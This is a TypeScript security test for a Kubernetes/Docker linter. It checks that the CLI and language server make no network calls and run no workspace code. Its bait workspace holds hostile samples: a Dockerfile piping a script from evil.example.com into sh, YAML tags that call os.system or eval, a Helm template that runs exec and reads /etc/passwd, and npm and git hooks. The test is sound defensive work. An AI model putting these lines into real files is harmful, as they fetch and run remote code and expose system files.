// The CLI and the language server never touch the network and never execute anything from the
// workspace. Both run under test/security/sandbox-preload.cjs, which replaces every network, process,
// thread and code-evaluation API with one that records the attempt and throws, and records any module
// compiled from outside Harden's own directory. The workspace is built to tempt: remote images and
// kustomize resources, Helm chart dependencies, `curl | sh` in a Dockerfile, npm scripts, a git hook,
// config-looking JavaScript files and a `.harden.yaml` full of code tags, each of which would create a
// sentinel file if run. (The LSP over stdio uses the process's pipes, not sockets; IPC is out of scope.)
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, it } from 'node:test';
import { TestClient } from '../lsp/helpers/testClient';

const REPO = join(__dirname, '..', '..');
const PRELOAD = join(__dirname, 'sandbox-preload.cjs');
const CLI = join(REPO, 'bin', 'harden.js');

interface SandboxEvent {
  event: 'loaded' | 'blocked' | 'foreign-module';
  detail: Record<string, unknown>;
  pid: number;
  stack: string[];
}

/** Writes the tempting workspace; every payload would create `sentinel`. */
function writeWorkspace(dir: string, sentinel: string): void {
  const touch = `require('fs').writeFileSync(${JSON.stringify(sentinel)}, 'pwned')`;
  const files: Record<string, string> = {
    'deploy/deployment.yaml': `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  annotations:
    docs: https://evil.example.com/x
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      containers:
        - name: web
          image: registry.example.com/team/web:latest
          command: ["sh", "-c", "touch ${sentinel}"]
`,
    'deploy/kustomization.yaml': `resources:\n  - deployment.yaml\n  - https://github.com/kubernetes-sigs/kustomize//examples/helloWorld?ref=v3.3.1\n`,
    'chart/Chart.yaml': `apiVersion: v2\nname: chart\nversion: 0.1.0\ndependencies:\n  - name: redis\n    version: 17.x\n    repository: https://charts.example.com\n`,
    'chart/values.yaml': `image: {repository: registry.example.com/web, tag: latest}\n`,
    'chart/templates/deployment.yaml': `apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ include "chart.fullname" . }}
spec:
  template:
    spec:
      containers:
        - name: web
          image: "{{ .Values.image.repository }}:{{ .Values.image.tag }}"
          args: [{{ exec "sh" (list "-c" "touch ${sentinel}") | quote }}]
          env: {{ .Files.Get "/etc/passwd" | toYaml | nindent 12 }}
`,
    Dockerfile: `FROM registry.example.com/base:latest\nADD https://evil.example.com/payload.tgz /opt/\nRUN curl -fsSL https://evil.example.com/install.sh | sh\nRUN touch ${sentinel}\n`,
    '.harden.yaml': `# Code tags that unsafe YAML loaders would run.
rules: !!js/function "function () { ${touch.replace(/"/g, '\\"')} }"
ignore: !!python/object/apply:os.system ["touch ${sentinel}"]
images: {web: !!js/eval "${touch.replace(/"/g, '\\"')}"}
`,
    'package.json': JSON.stringify({
      name: 'victim',
      scripts: { postinstall: `touch ${sentinel}`, harden: `touch ${sentinel}` },
      harden: { plugins: ['./harden.config.js'] },
    }),
    'harden.config.js': `${touch};\nmodule.exports = {};\n`,
    '.hardenrc.js': `${touch};\n`,
    'node_modules/harden-plugin/index.js': `${touch};\n`,
    'node_modules/yaml/index.js': `${touch};\n`,
    '.git/hooks/pre-commit': `#!/bin/sh\ntouch ${sentinel}\n`,
    '.vscode/settings.json': JSON.stringify({ 'harden.rules': { 'k8s/run-as-non-root': 'off' } }),
  };
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, name)), { recursive: true });
    writeFileSync(join(dir, name), text);
  }
  chmodSync(join(dir, '.git/hooks/pre-commit'), 0o755);
}

function readEvents(log: string): SandboxEvent[] {
  if (!existsSync(log)) return [];
  return readFileSync(log, 'utf8')
    .trim()
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as SandboxEvent);
}

function sandboxEnv(log: string): NodeJS.ProcessEnv {
  return { ...process.env, HARDEN_SANDBOX_LOG: log, HARDEN_SANDBOX_ALLOWED_ROOT: REPO, NO_COLOR: '1' };
}

/** Asserts the preload ran in `processes` processes and recorded nothing else. */
function assertClean(log: string, processes: number, what: string): void {
  const events = readEvents(log);
  const loaded = events.filter((e) => e.event === 'loaded');
  assert.equal(loaded.length, processes, `${what}: the sandbox preload ran in every process`);
  const attempts = events.filter((e) => e.event !== 'loaded');
  assert.deepEqual(attempts, [], `${what}: attempted ${attempts.map((e) => `${e.event} ${JSON.stringify(e.detail)}`).join('; ')}`);
}

describe('security: no network, no execution of workspace code', () => {
  let root: string;
  let workspace: string;
  let sentinel: string;

  before(() => {
    root = mkdtempSync(join(tmpdir(), 'harden-security-'));
    workspace = join(root, 'workspace');
    sentinel = join(root, 'SENTINEL');
    writeWorkspace(workspace, sentinel);
  });
  after(() => rmSync(root, { recursive: true, force: true }));

  it('the sandbox works: it blocks and records a spawn, a fetch, a DNS lookup and a foreign module', () => {
    const log = join(root, 'canary.jsonl');
    const script = `
      const attempts = [
        () => require('node:child_process').execSync('true'),
        () => fetch('http://example.com'),
        () => require('node:dns').lookup('example.com', () => {}),
        () => new (require('node:worker_threads').Worker)('0'),
        () => require('node:net').connect(80, '127.0.0.1'),
      ];
      for (const attempt of attempts) { try { attempt(); } catch {} }
      require(${JSON.stringify(join(workspace, 'harden.config.js'))});`;
    spawnSync(process.execPath, ['--require', PRELOAD, '-e', script], { env: sandboxEnv(log), encoding: 'utf8' });
    const events = readEvents(log);
    const blocked = events.filter((e) => e.event === 'blocked').map((e) => e.detail.api);
    assert.deepEqual(blocked, ['child_process.execSync', 'fetch', 'dns.lookup', 'worker_threads.Worker', 'net.connect']);
    assert.ok(events.some((e) => e.event === 'foreign-module' && String(e.detail.filename).endsWith('harden.config.js')));
    // That one ran on purpose (the canary requires it); reset for the real checks.
    assert.ok(existsSync(sentinel));
    rmSync(sentinel);
  });

  it('the CLI (lint in every format, --fix, --config, rules) touches no network and runs nothing', () => {
    const log = join(root, 'cli.jsonl');
    const copy = join(root, 'fix-copy');
    cpSync(workspace, copy, { recursive: true });
    const runs: Array<[string[], string]> = [
      [['lint', '.'], workspace],
      [['lint', '--format', 'json', '.'], workspace],
      [['lint', '--format', 'sarif', 'deploy', 'chart', 'Dockerfile'], workspace],
      [['lint', '--config', '.harden.yaml', '.'], workspace],
      [['lint', '--fix', '.'], copy],
      [['rules', '--format', 'json'], workspace],
    ];
    for (const [args, cwd] of runs) {
      const run = spawnSync(process.execPath, ['--require', PRELOAD, CLI, ...args], { cwd, env: sandboxEnv(log), encoding: 'utf8' });
      assert.ok(run.status === 0 || run.status === 1, `harden ${args.join(' ')} exited ${run.status}: ${run.stderr}`);
      assert.doesNotMatch(run.stderr, /harden sandbox|internal error/, `harden ${args.join(' ')}`);
    }
    assertClean(log, runs.length, 'CLI');
    assert.ok(!existsSync(sentinel), 'no workspace payload ran');
  });

  it('the language server (a session over stdio on the workspace) touches no network and runs nothing', { timeout: 60_000 }, async () => {
    const log = join(root, 'server.jsonl');
    const saved = { NODE_OPTIONS: process.env.NODE_OPTIONS, log: process.env.HARDEN_SANDBOX_LOG, allowed: process.env.HARDEN_SANDBOX_ALLOWED_ROOT };
    // TestClient spawns the server with this process's environment.
    process.env.NODE_OPTIONS = `--require ${PRELOAD}`;
    process.env.HARDEN_SANDBOX_LOG = log;
    process.env.HARDEN_SANDBOX_ALLOWED_ROOT = REPO;
    let client: TestClient;
    try {
      const options = { workspaceFolders: [workspace], settings: {} };
      client = await TestClient.start(options);
    } finally {
      for (const [key, value] of [
        ['NODE_OPTIONS', saved.NODE_OPTIONS],
        ['HARDEN_SANDBOX_LOG', saved.log],
        ['HARDEN_SANDBOX_ALLOWED_ROOT', saved.allowed],
      ] as const) {
        if (value === undefined) delete process.env[key];
        else process.env[key] = value;
      }
    }
    try {
      const everything = { start: { line: 0, character: 0 }, end: { line: 100, character: 0 } };
      const documents: Array<[string, string]> = [
        ['deploy/deployment.yaml', 'yaml'],
        ['deploy/kustomization.yaml', 'yaml'],
        ['chart/templates/deployment.yaml', 'yaml'],
        ['Dockerfile', 'dockerfile'],
        ['.harden.yaml', 'yaml'],
      ];
      for (const [name, languageId] of documents) {
        const uri = pathToFileURL(join(workspace, name)).toString();
        const { diagnostics } = await client.open(uri, readFileSync(join(workspace, name), 'utf8'), languageId);
        await client.codeActions(uri, everything, diagnostics);
        await client.codeActions(uri, everything, [], ['source.fixAll.harden']);
        await client.change(uri, [{ range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: '# edited\n' }]);
        await client.waitForDiagnostics(uri, { version: 2 });
        await client.close(uri);
      }
      assert.equal(client.exitCode, null);
      assert.doesNotMatch(client.serverOutput, /harden sandbox/);
    } finally {
      await client.stop();
    }
    assertClean(log, 1, 'language server');
    assert.ok(!existsSync(sentinel), 'no workspace payload ran');
  });
});
